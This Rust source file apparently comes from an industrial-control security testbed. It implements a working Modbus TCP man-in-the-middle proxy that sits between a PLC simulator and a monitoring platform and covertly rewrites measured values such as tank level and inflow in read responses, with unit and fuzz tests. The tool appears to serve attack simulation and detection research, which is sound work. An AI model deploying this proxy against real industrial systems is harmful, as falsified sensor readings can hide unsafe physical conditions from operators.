//! A man in the middle on Modbus TCP: a proxy that sits between a PLC (here the simulator) and
//! the platform, forwards every frame both ways, and rewrites the values of attacked points in
//! the answers to reads. Writes and everything else pass unchanged, so the platform's commands
//! still work and nothing but the bent values gives the proxy away.
//!
//! The frame handling is sans-IO ([`ProxyState`]); [`attack_proxy`] is the thin async shell,
//! one upstream connection per client connection.

use std::collections::HashMap;
use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use ironplant_core::config::{ModbusDataType, ModbusTable};
use ironplant_core::Value;
use ironplant_modbus::codec::{decode_registers, encode_registers};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use super::control::{AttackControl, StartError};
use super::scenario::Scenario;
use crate::map::{PointDef, REGISTER_MAP};

/// MBAP header (transaction, protocol, length) before the unit id.
const MBAP: usize = 6;
/// Largest Modbus TCP frame: MBAP + unit id + 253-byte PDU.
pub const MAX_FRAME: usize = MBAP + 1 + 253;
/// Reads a connection may have in flight before the proxy stops tracking new ones (their
/// answers then pass unchanged).
const MAX_PENDING: usize = 256;
/// Client connections relayed at once; more wait until one ends.
pub const MAX_CONNECTIONS: usize = 64;
/// How long connecting upstream may take.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// What the man in the middle does: multiply `point`'s value by `factor`.
#[derive(Debug, Clone, PartialEq)]
pub struct MitmRule {
    /// A measurement or counter of the register map, e.g. `tank_level`.
    pub point: String,
    pub factor: f64,
}

/// A malformed Modbus TCP frame.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FrameError {
    #[error("MBAP length {0} is outside 2..=254 (not Modbus TCP?)")]
    BadLength(u16),
    #[error("MBAP protocol id {0} is not 0 (not Modbus TCP?)")]
    BadProtocol(u16),
}

/// The length of the first complete frame in `buf`; `None` until one has arrived.
pub fn frame_len(buf: &[u8]) -> Result<Option<usize>, FrameError> {
    if buf.len() < MBAP {
        return Ok(None);
    }
    let protocol = u16::from_be_bytes([buf[2], buf[3]]);
    if protocol != 0 {
        return Err(FrameError::BadProtocol(protocol));
    }
    let len = u16::from_be_bytes([buf[4], buf[5]]);
    if !(2..=254).contains(&len) {
        return Err(FrameError::BadLength(len));
    }
    let total = MBAP + usize::from(len);
    Ok((buf.len() >= total).then_some(total))
}

/// A read request waiting for its answer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Read {
    unit: u8,
    table: ModbusTable,
    address: u16,
    quantity: u16,
}

/// The proxy's state for one connection: the reads in flight, by transaction id.
#[derive(Debug, Default)]
pub struct ProxyState {
    pending: HashMap<(u16, u8), Read>,
}

impl ProxyState {
    /// A frame from the client (platform) to the PLC: reads of registers are remembered.
    pub fn on_request(&mut self, frame: &[u8]) {
        let [t0, t1, _, _, _, _, unit, function, a0, a1, q0, q1, ..] = *frame else {
            return;
        };
        let table = match function {
            3 => ModbusTable::Holding,
            4 => ModbusTable::Input,
            _ => return,
        };
        let key = (u16::from_be_bytes([t0, t1]), unit);
        if self.pending.len() >= MAX_PENDING && !self.pending.contains_key(&key) {
            return;
        }
        self.pending.insert(
            key,
            Read {
                unit,
                table,
                address: u16::from_be_bytes([a0, a1]),
                quantity: u16::from_be_bytes([q0, q1]),
            },
        );
    }

    /// A frame from the PLC to the client: the answer to a remembered read gets the attacked
    /// points' values rewritten in place, as `attacks` shows them at `now`. Returns the names
    /// of the points rewritten.
    pub fn on_response(
        &mut self,
        frame: &mut [u8],
        now: Duration,
        attacks: &AttackControl,
    ) -> Vec<&'static str> {
        let mut rewritten = Vec::new();
        let [t0, t1, _, _, _, _, unit, function, count, ..] = *frame else {
            return rewritten;
        };
        let Some(read) = self.pending.remove(&(u16::from_be_bytes([t0, t1]), unit)) else {
            return rewritten;
        };
        let expected_function = match read.table {
            ModbusTable::Holding => 3,
            _ => 4,
        };
        let data_at = MBAP + 3;
        // An exception, or an answer that does not match the question: passed as it is.
        if function != expected_function
            || usize::from(count) != 2 * usize::from(read.quantity)
            || frame.len() != data_at + usize::from(count)
        {
            return rewritten;
        }
        let first = u32::from(read.address);
        let end = first + u32::from(read.quantity);
        for def in REGISTER_MAP.iter().filter(|d| {
            d.unit_id == read.unit
                && d.table == read.table
                && d.bit.is_none()
                && d.data_type != ModbusDataType::Bool
        }) {
            let point = def.point();
            let (from, to) = (u32::from(def.address), point.last_address() + 1);
            if from < first || to > end || !attacks.targets(def.name) {
                continue;
            }
            let at = data_at + 2 * (from - first) as usize;
            let bytes = &mut frame[at..at + 2 * (to - from) as usize];
            let regs: Vec<u16> = bytes
                .chunks_exact(2)
                .map(|b| u16::from_be_bytes([b[0], b[1]]))
                .collect();
            let Some(actual) = decode_registers(&point, &regs).as_f64() else {
                continue;
            };
            let shown = attacks.value(def.name, now, actual);
            if shown.to_bits() == actual.to_bits() {
                continue;
            }
            let Ok(new) = encode_registers(&point, &engineering(def, shown)) else {
                continue;
            };
            for (b, r) in bytes.chunks_exact_mut(2).zip(new) {
                b.copy_from_slice(&r.to_be_bytes());
            }
            rewritten.push(def.name);
        }
        rewritten
    }
}

/// `v` as a value `def`'s register can hold: inside its range, whole for an unscaled integer.
fn engineering(def: &PointDef, v: f64) -> Value {
    let v = v.clamp(def.range.0, def.range.1);
    let float = matches!(def.data_type, ModbusDataType::F32 | ModbusDataType::F64);
    if !float && def.scale == 1.0 && def.offset == 0.0 {
        Value::Float(v.round())
    } else {
        Value::Float(v)
    }
}

/// The man in the middle: serves on `listener`, forwards to the Modbus TCP server at
/// `upstream`, and multiplies `rule.point`'s value by `rule.factor` in every read answer. Runs
/// until accepting fails or the future is dropped.
pub async fn mitm_proxy(
    listener: TcpListener,
    upstream: SocketAddr,
    rule: MitmRule,
) -> Result<(), ProxyError> {
    let attacks = AttackControl::new();
    attacks.start(Scenario::Mitm {
        signal: rule.point,
        factor: rule.factor,
        start_s: 0.0,
    })?;
    attack_proxy(listener, upstream, attacks).await
}

/// Why a proxy stopped (or did not start).
#[derive(Debug, thiserror::Error)]
pub enum ProxyError {
    #[error(transparent)]
    Rule(#[from] StartError),
    #[error("the proxy cannot accept connections: {0}")]
    Accept(io::Error),
}

/// A proxy that applies every attack of `attacks` (on the proxy's own clock, which starts
/// now) to the values passing from `upstream` to the clients on `listener`. Drift, step,
/// replay and freeze work on the wire too; a replay records what the client polls.
pub async fn attack_proxy(
    listener: TcpListener,
    upstream: SocketAddr,
    attacks: AttackControl,
) -> Result<(), ProxyError> {
    let origin = tokio::time::Instant::now();
    if let Ok(addr) = listener.local_addr() {
        tracing::info!(%addr, %upstream, attacks = ?attacks.active().iter().map(|a| a.label.clone()).collect::<Vec<_>>(), "modbus attack proxy listening");
    }
    let slots = std::sync::Arc::new(tokio::sync::Semaphore::new(MAX_CONNECTIONS));
    loop {
        let Ok(slot) = slots.clone().acquire_owned().await else {
            return Ok(()); // never closed
        };
        let (client, peer) = listener.accept().await.map_err(ProxyError::Accept)?;
        let attacks = attacks.clone();
        tokio::spawn(async move {
            if let Err(e) = relay(client, upstream, attacks, origin).await {
                tracing::info!(%peer, %upstream, error = %e, "modbus attack proxy connection ended");
            }
            drop(slot);
        });
    }
}

/// Relays one client connection to its own upstream connection.
async fn relay(
    mut client: TcpStream,
    upstream: SocketAddr,
    attacks: AttackControl,
    origin: tokio::time::Instant,
) -> io::Result<()> {
    let mut server = tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(upstream))
        .await
        .map_err(|_| {
            io::Error::new(
                io::ErrorKind::TimedOut,
                format!("no connection to {upstream} within {CONNECT_TIMEOUT:?}"),
            )
        })??;
    let _ = client.set_nodelay(true);
    let _ = server.set_nodelay(true);
    let mut state = ProxyState::default();
    let (mut from_client, mut from_server) = (Vec::new(), Vec::new());
    let (mut cbuf, mut sbuf) = ([0u8; 1024], [0u8; 1024]);
    loop {
        tokio::select! {
            n = client.read(&mut cbuf) => {
                let n = n?;
                if n == 0 {
                    return Ok(());
                }
                from_client.extend_from_slice(&cbuf[..n]);
                while let Some(len) = frame_len(&from_client).map_err(invalid)? {
                    let frame: Vec<u8> = from_client.drain(..len).collect();
                    state.on_request(&frame);
                    server.write_all(&frame).await?;
                }
            }
            n = server.read(&mut sbuf) => {
                let n = n?;
                if n == 0 {
                    return Ok(());
                }
                from_server.extend_from_slice(&sbuf[..n]);
                while let Some(len) = frame_len(&from_server).map_err(invalid)? {
                    let mut frame: Vec<u8> = from_server.drain(..len).collect();
                    let rewritten = state.on_response(&mut frame, origin.elapsed(), &attacks);
                    if !rewritten.is_empty() {
                        tracing::debug!(points = ?rewritten, "modbus attack proxy rewrote a read answer");
                    }
                    client.write_all(&frame).await?;
                }
            }
        }
    }
}

fn invalid(e: FrameError) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, e)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A read-input-registers request and its answer, as bytes on the wire.
    fn read_request(tid: u16, unit: u8, address: u16, quantity: u16) -> Vec<u8> {
        let mut f = tid.to_be_bytes().to_vec();
        f.extend_from_slice(&[0, 0, 0, 6, unit, 4]);
        f.extend_from_slice(&address.to_be_bytes());
        f.extend_from_slice(&quantity.to_be_bytes());
        f
    }

    fn read_answer(tid: u16, unit: u8, regs: &[u16]) -> Vec<u8> {
        let mut f = tid.to_be_bytes().to_vec();
        let len = u16::try_from(3 + 2 * regs.len()).expect("small");
        f.extend_from_slice(&[0, 0]);
        f.extend_from_slice(&len.to_be_bytes());
        f.extend_from_slice(&[unit, 4, u8::try_from(2 * regs.len()).expect("small")]);
        for r in regs {
            f.extend_from_slice(&r.to_be_bytes());
        }
        f
    }

    #[test]
    fn frames_are_cut_at_their_mbap_length_and_garbage_is_refused() {
        let req = read_request(7, 2, 0, 20);
        assert_eq!(frame_len(&req[..5]), Ok(None));
        assert_eq!(frame_len(&req[..11]), Ok(None));
        assert_eq!(frame_len(&req), Ok(Some(12)));
        let mut two = req.clone();
        two.extend_from_slice(&req);
        assert_eq!(frame_len(&two), Ok(Some(12)));
        assert_eq!(
            frame_len(b"GET / HTTP/1.1\r\n"),
            Err(FrameError::BadProtocol(0x5420)) // "T "
        );
        assert_eq!(
            frame_len(&[0, 1, 0, 0, 0xff, 0xff, 1]),
            Err(FrameError::BadLength(0xffff))
        );
    }

    #[test]
    fn the_attacked_point_is_rewritten_and_its_neighbours_are_not() {
        let attacks = AttackControl::new();
        attacks
            .start(Scenario::Mitm {
                signal: "inflow".into(),
                factor: 0.5,
                start_s: 0.0,
            })
            .expect("valid");
        let inflow = crate::map::point_def("inflow").expect("mapped").point();
        let regs_in = encode_registers(&inflow, &Value::Float(300.0)).expect("fits");
        // Unit 2, input registers 0..6: tank_level (0-1), inflow (2-3), outflow (4-5).
        let mut answer_regs = vec![0x4270, 0x0000];
        answer_regs.extend_from_slice(&regs_in);
        answer_regs.extend_from_slice(&[0x1234, 0x5678]);
        let mut state = ProxyState::default();
        state.on_request(&read_request(9, 2, 0, 6));
        let mut frame = read_answer(9, 2, &answer_regs);
        let untouched = frame.clone();
        let done = state.on_response(&mut frame, Duration::ZERO, &attacks);
        assert_eq!(done, vec!["inflow"]);
        assert_eq!(frame[..13], untouched[..13], "header and tank_level");
        assert_eq!(frame[17..], untouched[17..], "outflow");
        let regs: Vec<u16> = frame[13..17]
            .chunks_exact(2)
            .map(|b| u16::from_be_bytes([b[0], b[1]]))
            .collect();
        assert_eq!(decode_registers(&inflow, &regs), Value::Float(150.0));

        // A read that covers only half of the point, an unknown transaction, an exception:
        // all passed as they are.
        state.on_request(&read_request(10, 2, 3, 2));
        let mut half = read_answer(10, 2, &[1, 2]);
        assert!(state
            .on_response(&mut half, Duration::ZERO, &attacks)
            .is_empty());
        state.on_request(&read_request(13, 2, 2, 1));
        let mut first_half = read_answer(13, 2, &[1]);
        assert!(state
            .on_response(&mut first_half, Duration::ZERO, &attacks)
            .is_empty());
        assert_eq!(first_half, read_answer(13, 2, &[1]));
        let mut stray = read_answer(11, 2, &answer_regs);
        assert!(state
            .on_response(&mut stray, Duration::ZERO, &attacks)
            .is_empty());
        state.on_request(&read_request(12, 2, 0, 6));
        let mut exception = vec![0, 12, 0, 0, 0, 3, 2, 0x84, 2];
        assert!(state
            .on_response(&mut exception, Duration::ZERO, &attacks)
            .is_empty());
        assert_eq!(exception, vec![0, 12, 0, 0, 0, 3, 2, 0x84, 2]);
    }

    /// The fuzz target's checks (fuzz/fuzz_targets/modbus_proxy.rs) on seeded random traffic:
    /// well-formed reads with answers of random sizes, and garbage. Nothing panics, rewriting
    /// keeps every frame's length and header.
    #[test]
    fn random_traffic_never_breaks_the_proxy() {
        use rand::{Rng, SeedableRng};
        let mut rng = rand::rngs::StdRng::seed_from_u64(13);
        let attacks = AttackControl::new();
        for signal in [
            "tank_level",
            "inflow",
            "motor_temp",
            "good_count",
            "water_total",
        ] {
            attacks
                .start(Scenario::Mitm {
                    signal: signal.into(),
                    factor: 0.5,
                    start_s: 0.0,
                })
                .expect("valid");
        }
        let mut rewrites = 0;
        for _ in 0..20_000 {
            let mut state = ProxyState::default();
            let (tid, unit) = (rng.random::<u16>(), rng.random_range(0..4u8));
            let (address, quantity) = (rng.random_range(0..24u16), rng.random_range(0..24u16));
            state.on_request(&read_request(tid, unit, address, quantity));
            let mut answer = if rng.random_bool(0.8) {
                let n = if rng.random_bool(0.7) {
                    usize::from(quantity)
                } else {
                    rng.random_range(0..30)
                };
                let regs: Vec<u16> = (0..n).map(|_| rng.random()).collect();
                read_answer(tid, unit, &regs)
            } else {
                let n = rng.random_range(0..40);
                (0..n).map(|_| rng.random()).collect()
            };
            let before = answer.clone();
            if let Ok(Some(len)) = frame_len(&answer) {
                assert!(len <= answer.len());
            }
            if !state
                .on_response(&mut answer, Duration::ZERO, &attacks)
                .is_empty()
            {
                rewrites += 1;
            }
            assert_eq!(answer.len(), before.len());
            assert_eq!(answer[..9.min(before.len())], before[..9.min(before.len())]);
        }
        assert!(
            rewrites > 1_000,
            "well-formed reads were rewritten: {rewrites}"
        );
    }
}
